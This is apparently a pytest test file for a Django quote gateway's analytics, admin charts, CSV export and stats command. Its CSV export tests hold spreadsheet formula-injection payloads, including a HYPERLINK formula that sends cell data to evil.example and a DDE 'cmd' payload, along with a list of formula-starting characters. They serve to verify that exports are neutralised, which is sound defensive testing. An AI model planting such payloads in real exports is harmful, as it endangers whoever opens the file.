"""Gateway analytics: the numbers (quotes.selectors), the admin page and its charts, the CSV export
of the request log, and `manage.py gateway_stats`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import Group, Permission, User
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.utils import timezone

from quotes.admin import CSV_COLUMNS
from quotes.charts import bar_list, nice_ceiling
from quotes.forms import StatsRangeForm
from quotes.models import Generation, Persona
from quotes.selectors import gateway_stats, parse_since, percentile
from tests.asgi import request

ANALYTICS = "/admin/quotes/generation/analytics/"
EXPORT = "/admin/quotes/generation/export.csv"

DAY = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)


def log(persona: Persona, at: dt.datetime, **fields: Any) -> Generation:
    """A log row written at `at` (created_at is auto_now_add, so it is set after creating)."""
    values: dict[str, Any] = {
        "persona": persona,
        "backend": "workers-ai",
        "model": "@cf/meta/llama-3.1-8b-instruct",
        "status": "ok",
        "cache_status": "miss",
        "topic": "tea",
        "text": "A quiet quote.",
    }
    values.update(fields)
    row = Generation.objects.create(**values)
    Generation.objects.filter(pk=row.pk).update(created_at=at)
    row.refresh_from_db()
    return row


def at(hour: int, minute: int = 0) -> dt.datetime:
    return DAY + dt.timedelta(hours=hour, minutes=minute)


@pytest.fixture
def known_log(db: None) -> dict[str, Persona]:
    """Eight rows in 2025-01-01 (UTC), a preview row, and two just outside the day."""
    watts = Persona.objects.get(slug="alan-watts")
    ada = Persona.objects.get(slug="ada-lovelace")
    model_a, model_b = "@cf/meta/llama-3.1-8b-instruct", "@cf/mistral/mistral-7b-instruct-v0.1"
    log(watts, at(1, 10), model=model_a, cache_status="hit", prompt_tokens=10, completion_tokens=20,
        cost_usd=Decimal(0), ttft_ms=100, feedback=1)  # fmt: skip
    log(watts, at(1, 20), model=model_a, prompt_tokens=10, completion_tokens=30,
        cost_usd=Decimal("0.001"), ttft_ms=200)  # fmt: skip
    log(watts, at(2), model=model_b, prompt_tokens=20, completion_tokens=40, cost_usd=Decimal("0.002"),
        ttft_ms=300, feedback=-1)  # fmt: skip
    log(ada, at(2, 30), model=model_b, status="error", error_code="upstream_error")
    log(ada, at(5), status="rate_limited", cache_status="", error_code="rate_limited")
    log(ada, at(5, 10), status="busy", cache_status="bypass", error_code="busy")
    log(ada, at(5, 20), model=model_a, status="cancelled", prompt_tokens=5, completion_tokens=5, ttft_ms=400)
    log(watts, at(23, 59), model=model_a, cache_status="bypass", prompt_tokens=10, completion_tokens=10,
        cost_usd=Decimal("0.0005"), ttft_ms=500)  # fmt: skip
    log(watts, at(3), is_preview=True, ttft_ms=10_000, prompt_tokens=1, completion_tokens=1)
    log(watts, at(24), ttft_ms=1)  # the range's end is exclusive
    log(watts, at(-1, 59), ttft_ms=1)
    return {"watts": watts, "ada": ada}


# --- the numbers ------------------------------------------------------------------------------


@pytest.mark.unit
def test_percentile_interpolates_between_ranks() -> None:
    values = [float(v) for v in range(1, 101)]
    assert percentile(values, 50) == pytest.approx(50.5)
    assert percentile(values, 95) == pytest.approx(95.05)
    assert percentile([7.0], 95) == 7.0
    assert percentile([], 50) is None


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_totals(known_log: dict[str, Persona]) -> None:
    stats = gateway_stats(since=DAY, until=at(24), bucket="hour")

    assert stats.requests == 8
    assert stats.by_status == {"ok": 4, "error": 1, "cancelled": 1, "rate_limited": 1, "busy": 1}
    assert (stats.prompt_tokens, stats.completion_tokens) == (55, 105)
    assert stats.cost_usd == Decimal("0.0035")
    assert stats.unpriced == 1  # the cancelled row: tokens, no price
    assert (stats.cache_hits, stats.cache_lookups, stats.hit_rate) == (1, 5, 0.2)
    assert (stats.errors, stats.error_rate) == (3, 0.375)
    assert stats.errors_by_code == [("busy", 1), ("rate_limited", 1), ("upstream_error", 1)]
    assert stats.ttft_p50 == 300
    assert stats.ttft_p95 == pytest.approx(480)  # 400 + 0.8 * (500 - 400)


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_hourly_buckets_fill_the_range(known_log: dict[str, Persona]) -> None:
    stats = gateway_stats(since=DAY, until=at(24), bucket="hour")

    assert [b.start for b in stats.buckets] == [at(h) for h in range(24)]
    by_hour = {b.start.hour: b for b in stats.buckets}
    assert {h: b.requests for h, b in by_hour.items() if b.requests} == {1: 2, 2: 2, 5: 3, 23: 1}
    assert by_hour[1].ttft_p50 == 150
    assert by_hour[1].completion_tokens == 50
    assert by_hour[2].cost_usd == Decimal("0.002")
    assert by_hour[5].by_status == {"ok": 0, "error": 0, "cancelled": 1, "rate_limited": 1, "busy": 1}
    assert by_hour[3].requests == 0 and by_hour[3].ttft_p50 is None


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_daily_buckets(known_log: dict[str, Persona]) -> None:
    stats = gateway_stats(since=at(-24), until=at(48))

    assert stats.bucket == "day"
    assert [(b.start, b.requests) for b in stats.buckets] == [(at(-24), 1), (DAY, 8), (at(24), 1)]


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_breakdowns(known_log: dict[str, Persona]) -> None:
    stats = gateway_stats(since=DAY, until=at(24))

    # Most requests first; ties by name.
    assert [row.key for row in stats.by_persona] == ["ada-lovelace", "alan-watts"]
    ada, watts = stats.by_persona
    assert watts.requests == 4 and watts.label.endswith("Alan Watts")
    assert (watts.cache_hits, watts.cache_lookups, watts.errors) == (1, 3, 0)
    assert watts.ttft_p50 == 250
    assert watts.cost_usd == Decimal("0.0035")
    assert (watts.thumbs_up, watts.thumbs_down) == (1, 1)
    assert (ada.key, ada.requests, ada.errors, ada.ttft_p50) == ("ada-lovelace", 4, 3, 400)

    models = {row.key: row for row in stats.by_model}
    assert {k: r.requests for k, r in models.items()} == {
        "@cf/meta/llama-3.1-8b-instruct": 6,
        "@cf/mistral/mistral-7b-instruct-v0.1": 2,
    }
    assert models["@cf/mistral/mistral-7b-instruct-v0.1"].ttft_p50 == 300
    assert models["@cf/meta/llama-3.1-8b-instruct"].label != "@cf/meta/llama-3.1-8b-instruct"  # catalog name


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_leaves_previews_out_unless_asked(known_log: dict[str, Persona]) -> None:
    stats = gateway_stats(since=DAY, until=at(24), include_previews=True)

    assert stats.requests == 9
    assert stats.ttft_p95 == pytest.approx(500 + 0.75 * (10_000 - 500))


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_of_an_empty_range(db: None) -> None:
    stats = gateway_stats(since=DAY, until=at(24))

    assert (stats.requests, stats.hit_rate, stats.error_rate, stats.ttft_p50) == (0, None, None, None)
    assert stats.cost_usd == 0 and len(stats.buckets) == 24


@pytest.mark.unit
def test_range_form_validates_custom_ranges() -> None:
    form = StatsRangeForm({"range": "custom", "start": "2025-01-10", "end": "2025-01-01"})
    assert not form.is_valid()
    assert "ends before it starts" in str(form.errors)

    form = StatsRangeForm({"range": "custom", "start": "2025-01-01"})
    assert not form.is_valid() and "last day" in str(form.errors["end"])

    form = StatsRangeForm({"range": "custom", "start": "2025-01-01", "end": "2025-01-02"})
    assert form.is_valid()
    assert (form.cleaned_data["since"], form.cleaned_data["until"]) == (DAY, at(48))

    assert StatsRangeForm({"range": "1y"}).is_valid() is False
    default = StatsRangeForm({})
    assert default.is_valid() and default.cleaned_data["range"] == "24h"


@pytest.mark.unit
def test_parse_since() -> None:
    now = DAY
    assert parse_since("24h", now=now) == at(-24)
    assert parse_since("7d", now=now) == now - dt.timedelta(days=7)
    for bad in ("", "7", "d", "-1d", "1w"):
        with pytest.raises(ValueError, match="is not a span"):
            parse_since(bad, now=now)


# --- charts ------------------------------------------------------------------------------------


@pytest.mark.unit
def test_nice_ceiling_steps() -> None:
    assert nice_ceiling(0) == (1.0, 0.25)
    assert nice_ceiling(7) == (8, 2)
    assert nice_ceiling(95) == (100, 25)
    assert nice_ceiling(0.0031) == pytest.approx((0.004, 0.001))


@pytest.mark.unit
def test_charts_escape_their_text() -> None:
    svg = bar_list(title="Errors <by> code", desc="a & b", rows=[("<script>x</script>", 3)], tone="bar")

    assert "<script>" not in svg
    assert "&lt;script&gt;" in svg and "Errors &lt;by&gt; code" in svg and "a &amp; b" in svg
    assert svg.startswith("<svg") and 'role="img"' in svg


# --- the admin page ------------------------------------------------------------------------------


@pytest.fixture
def recent_log(db: None) -> None:
    watts = Persona.objects.get(slug="alan-watts")
    now = timezone.now()
    for minutes in (10, 20, 30):
        log(watts, now - dt.timedelta(minutes=minutes), prompt_tokens=11, completion_tokens=22, ttft_ms=321)
    log(watts, now - dt.timedelta(minutes=40), status="error", error_code="upstream_timeout")
    log(watts, now - dt.timedelta(days=3), prompt_tokens=1000, completion_tokens=2000, ttft_ms=900)


def _kpis(html: str) -> dict[str, str]:
    tiles = re.findall(
        r'class="pq-tile__label">([^<]+)</div>\s*<div class="pq-tile__value">([^<]+)</div>', html
    )
    return {label: value for label, value in tiles}


@pytest.mark.integration
@pytest.mark.services
def test_analytics_page_renders_numbers_and_charts(admin_client: Client, recent_log: None) -> None:
    response = admin_client.get(ANALYTICS)

    assert response.status_code == 200
    html = response.content.decode()
    kpis = _kpis(html)
    assert kpis["Requests"] == "4"
    assert kpis["Tokens in / out"] == "33 / 66"
    assert kpis["Error rate"] == "25.0%"
    assert kpis["TTFT p50 / p95"] == "321 / 321 ms"
    assert html.count("<svg") >= 5
    assert re.search(r'<svg [^>]*role="img"', html)
    assert "<title" in html and "Requests per hour, by status" in html
    assert "upstream_timeout" in html  # errors by code
    assert "Alan Watts" in html and "Llama 3.1 8B" in html  # by persona, by model


def _rows(html: str, table: str) -> dict[str, list[str]]:
    """A table of the analytics page: each row's heading and its cells' text."""
    body = html.split(f'data-testid="{table}"')[1].split("</table>")[0]

    def text(part: str) -> str:
        return " ".join(re.sub(r"<[^>]+>", " ", part).split())

    return {
        text(heading): [text(cell) for cell in re.findall(r"<td[^>]*>(.*?)</td>", cells, re.S)]
        for heading, cells in re.findall(r'<th scope="row">(.*?)</th>(.*?)</tr>', body, re.S)
    }


@pytest.mark.integration
def test_analytics_page_shows_zero_and_tiny_costs_as_sums(admin_client: Client, db: None) -> None:
    """A free model's cost reads `$0` and cents' hundredths keep their digits, on the card, in
    the persona and model tables and on the cost chart's axis, whose ticks all differ. They read
    `$0.` (a tiny sum printed to four places, then its zeros stripped)."""
    now, llama = timezone.now(), "@cf/meta/llama-3.2-1b-instruct"
    watts, ada = Persona.objects.get(slug="alan-watts"), Persona.objects.get(slug="ada-lovelace")
    for minutes, cost in ((5, "0.00001"), (65, "0.00003")):  # two hours' bars
        log(watts, now - dt.timedelta(minutes=minutes), model=llama, cost_usd=Decimal(cost))
    log(ada, now - dt.timedelta(minutes=5), backend="local", model="gemma-3-270m", cost_usd=Decimal(0))

    html = admin_client.get(ANALYTICS).content.decode()

    assert _kpis(html)["Estimated cost"] == "$0.00004"
    persona_cost = {key: cells[5] for key, cells in _rows(html, "by-persona").items()}
    assert persona_cost == {"Alan Watts alan-watts": "$0.00004", "Ada Lovelace ada-lovelace": "$0"}
    assert sorted(cells[5] for cells in _rows(html, "by-model").values()) == ["$0", "$0.00004"]
    chart = html.split("Estimated cost per hour")[1].split("</svg>")[0]
    ticks = re.findall(r'<text class="pq-tick" x="[^"]+" y="[^"]+" text-anchor="end">([^<]+)</text>', chart)
    assert len(ticks) >= 4 and len(set(ticks)) == len(ticks), ticks
    assert ticks[0] == "$0" and all(re.fullmatch(r"\$0\.0*[1-9]\d*", t) for t in ticks[1:]), ticks


@pytest.mark.integration
@pytest.mark.services
def test_analytics_range_filter_changes_the_numbers(admin_client: Client, recent_log: None) -> None:
    response = admin_client.get(ANALYTICS, {"range": "7d"})

    kpis = _kpis(response.content.decode())
    assert kpis["Requests"] == "5"
    assert kpis["Tokens in / out"] == "1.03k / 2.07k"
    assert response.context["stats"].bucket == "day"

    today = timezone.localdate()
    custom = admin_client.get(
        ANALYTICS,
        {"range": "custom", "start": (today - dt.timedelta(days=3)).isoformat(), "end": today.isoformat()},
    )
    assert _kpis(custom.content.decode())["Requests"] == "5"
    earlier = admin_client.get(
        ANALYTICS,
        {
            "range": "custom",
            "start": (today - dt.timedelta(days=9)).isoformat(),
            "end": (today - dt.timedelta(days=5)).isoformat(),
        },
    )
    assert _kpis(earlier.content.decode())["Requests"] == "0"
    assert "No requests in this range" in earlier.content.decode()


@pytest.mark.integration
@pytest.mark.services
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"range": "custom", "start": "2025-02-10", "end": "2025-02-01"}, "ends before it starts"),
        ({"range": "custom", "start": "yesterday", "end": "2025-02-01"}, "Enter a valid date"),
        ({"range": "custom", "start": "2020-01-01", "end": "2025-01-01"}, "at most 366 days"),
        ({"range": "forever"}, "Select a valid choice"),
        # Issue 20: the last days a date can hold raised OverflowError (a 500) computing the end.
        ({"range": "custom", "start": "9999-12-30", "end": "9999-12-31"}, "starts in the future"),
        ({"range": "custom", "start": "9999-12-31", "end": "9999-12-31"}, "starts in the future"),
        ({"range": "custom", "start": "2025-01-01", "end": "9999-12-31"}, "at most 366 days"),
    ],
)
def test_analytics_bad_range_is_a_form_error(
    admin_client: Client, params: dict[str, str], message: str
) -> None:
    response = admin_client.get(ANALYTICS, params)

    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="errornote' in html and message in html
    assert "pq-tile" not in html


@pytest.mark.integration
@pytest.mark.services
@pytest.mark.parametrize(
    "params",
    [
        {"range": "30d", "bucket": "hour"},
        {"range": "custom", "start": "2025-01-01", "end": "2025-01-31", "bucket": "hour"},
    ],
)
def test_analytics_hourly_buckets_over_a_month_are_drawn(
    admin_client: Client, recent_log: None, params: dict[str, str]
) -> None:
    """The form allows hourly buckets up to 31 days (744 of them): the time axis found no label
    step for more than 648 (StopIteration, a 500)."""
    response = admin_client.get(ANALYTICS, params)

    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="errornote' not in html
    assert 5 <= html.count('class="pq-tick" x=') <= 200  # a few labels per chart, not 744 each


@pytest.mark.integration
@pytest.mark.services
def test_analytics_range_at_the_first_days_a_date_holds(admin_client: Client, recent_log: None) -> None:
    """The other end of the calendar: a range in year 1 is a valid, empty range, not a 500."""
    response = admin_client.get(ANALYTICS, {"range": "custom", "start": "0001-01-01", "end": "0001-01-02"})

    assert response.status_code == 200
    assert _kpis(response.content.decode())["Requests"] == "0"


@pytest.mark.integration
@pytest.mark.services
def test_analytics_permissions(client: Client, db: None) -> None:
    editor = User.objects.create_user("editor", password="editor-password-123", is_staff=True)
    editor.groups.add(Group.objects.get(name="Persona editors"))
    client.force_login(editor)
    assert client.get(ANALYTICS).status_code == 403
    assert client.get(EXPORT).status_code == 403

    visitor = User.objects.create_user("visitor", password="visitor-password-123")
    client.force_login(visitor)
    response = client.get(ANALYTICS)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")

    viewer = User.objects.create_user("viewer", password="viewer-password-123", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_generation"))
    client.force_login(viewer)
    assert client.get(ANALYTICS).status_code == 200


@pytest.mark.integration
def test_changelist_links_to_analytics_and_export(admin_client: Client, recent_log: None) -> None:
    html = admin_client.get("/admin/quotes/generation/", {"status__exact": "error"}).content.decode()

    assert f'href="{ANALYTICS}"' in html
    assert f'href="{EXPORT}?status__exact=error"' in html


# --- the CSV export ----------------------------------------------------------------------------


def _csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.integration
def test_csv_export_streams_the_filtered_changelist(
    admin_client: Client, known_log: dict[str, Persona]
) -> None:
    response = admin_client.get(EXPORT)

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="generations-')
    rows = _csv(response)
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 1 + Generation.objects.count()

    errors = _csv(admin_client.get(EXPORT, {"status__exact": "error"}))
    assert len(errors) == 2
    row = dict(zip(errors[0], errors[1], strict=True))
    assert (row["persona"], row["status"], row["error_code"], row["prompt_tokens"]) == (
        "ada-lovelace",
        "error",
        "upstream_error",
        "",
    )
    assert row["created_at"] == at(2, 30).isoformat()

    previews = _csv(admin_client.get(EXPORT, {"is_preview__exact": "1", "q": "quiet"}))
    assert len(previews) == 2 and previews[1][CSV_COLUMNS.index("is_preview")] == "true"


HYPERLINK = '=HYPERLINK("https://evil.example/?"&C2,"x")'


@pytest.mark.integration
@pytest.mark.parametrize(
    ("topic", "text"),
    [
        (HYPERLINK, "=1+1"),
        ("+SUM(A1:A9)", "-2+3"),
        ("@SUM(A1:A9)", "\t=cmd|' /C calc'!A0"),
        ("-topic", "\r=1+1"),
        # Issue 20: a formula after blanks, or in its fullwidth or separator forms, still runs.
        ("\n=1+1", " =1+1"),
        ("\u3000=1+1", "\xa0 +SUM(A1:A9)"),
        ("\uff1d1+1", "\uff0bSUM(A1:A9)"),
        ("\uff0d2+3", "\uff20SUM(A1:A9)"),
        ("|cmd", ";=1+1"),
        ("\uff5ccmd", "\uff1b=1+1"),
        ("\n\t @SUM(A1:A9)", "\r\n-2+3"),
    ],
)
def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: str, text: str) -> None:
    """A visitor's topic, or a model's text, that a spreadsheet would run as a formula is
    exported as text (OWASP: prefixed with a single quote); numbers stay numbers."""
    watts = Persona.objects.get(slug="alan-watts")
    log(
        watts,
        timezone.now(),
        topic=topic,
        text=text,
        status="error",
        error_code="upstream_error",
        feedback=-1,
    )
    viewer = User.objects.create_user("viewer", password="viewer-password-123", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_generation"))
    client.force_login(viewer)

    [header, row] = _csv(client.get(EXPORT))

    cells = dict(zip(header, row, strict=True))
    assert (cells["topic"], cells["text"]) == ("'" + topic, "'" + text)
    assert cells["feedback"] == "-1" and cells["status"] == "error"
    for cell in row:
        assert not cell.lstrip().startswith(FORMULA_START) or cell == "-1"
        assert not cell.startswith(("\t", "\r", "\n"))


#: Written out here, not read from quotes.admin: OWASP's characters and their fullwidth forms.
FORMULA_START = ("=", "+", "-", "@", "|", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff1b")


@pytest.mark.integration
@pytest.mark.parametrize("topic", ["rain", " rain", "a=b", "e-mail", "", "  ", "2+2", "\u3000rain"])
def test_csv_export_leaves_plain_text_as_it_is(admin_client: Client, db: None, topic: str) -> None:
    log(Persona.objects.get(slug="alan-watts"), timezone.now(), topic=topic)

    [header, row] = _csv(admin_client.get(EXPORT))

    assert dict(zip(header, row, strict=True))["topic"] == topic


@pytest.mark.integration
def test_csv_export_with_a_bad_filter_goes_back_to_the_changelist(admin_client: Client, db: None) -> None:
    response = admin_client.get(EXPORT, {"nonsense__exact": "1"})

    assert response.status_code == 302 and response["Location"] == "/admin/quotes/generation/?e=1"


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
async def test_csv_export_streams_under_asgi() -> None:
    def setup() -> str:
        # A transactional test: earlier ones may have flushed the seeded personas.
        watts, _ = Persona.objects.get_or_create(
            slug="alan-watts",
            defaults={
                "name": "Alan Watts",
                "system_prompt": "You are Alan Watts",
                "user_prompt_template": "Write 1 quote about {topic}",
                "default_topic": "hard honest work",
            },
        )
        for i in range(5):
            log(watts, timezone.now(), topic=f'topic, with "quotes" {i}', text="line one\nline two")
        user = User.objects.create_superuser("root", password="root-password-123")
        client = Client()
        client.force_login(user)
        return client.cookies["sessionid"].value

    session = await sync_to_async(setup)()
    response = await request("GET", EXPORT, headers={"cookie": f"sessionid={session}"})

    assert response.status == 200
    rows = list(csv.reader(io.StringIO(response.body.decode())))
    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 6
    assert rows[1][CSV_COLUMNS.index("text")] == "line one\nline two"


# --- manage.py gateway_stats -------------------------------------------------------------------


@pytest.mark.integration
def test_gateway_stats_command_prints_the_kpis(recent_log: None) -> None:
    out = io.StringIO()
    call_command("gateway_stats", stdout=out)
    text = out.getvalue()

    assert re.search(r"Requests\s+4\b", text)
    assert re.search(r"Error rate\s+25\.0%", text)
    assert re.search(r"TTFT p50 / p95\s+321 / 321 ms", text)
    assert "upstream_timeout" in text and "alan-watts" in text

    out = io.StringIO()
    call_command("gateway_stats", "--since", "7d", stdout=out)
    assert re.search(r"Requests\s+5\b", out.getvalue())


@pytest.mark.integration
def test_gateway_stats_command_json(recent_log: None) -> None:
    out = io.StringIO()
    call_command("gateway_stats", "--since", "7d", "--json", stdout=out)
    data = json.loads(out.getvalue())

    assert data["requests"] == 5
    assert (data["prompt_tokens"], data["completion_tokens"]) == (1033, 2066)
    assert data["error_rate"] == 0.2
    assert data["errors_by_code"] == [{"code": "upstream_timeout", "count": 1}]
    assert data["ttft_p50"] == 321
    assert data["by_persona"][0]["key"] == "alan-watts" and data["by_persona"][0]["requests"] == 5
    assert data["bucket"] == "day" and len(data["buckets"]) in (7, 8)


@pytest.mark.integration
def test_gateway_stats_command_rejects_a_bad_span(db: None) -> None:
    with pytest.raises(CommandError, match="is not a span"):
        call_command("gateway_stats", "--since", "soon")


@pytest.mark.integration
@pytest.mark.parametrize("since", ["1000000d", "99999999999d", "9999999999999999999999h"])
def test_gateway_stats_command_rejects_a_span_past_the_calendar(db: None, since: str) -> None:
    """A span reaching back before year 1, or past what a timedelta holds, was an OverflowError."""
    with pytest.raises(CommandError, match="reaches back further than"):
        call_command("gateway_stats", "--since", since, stdout=io.StringIO())
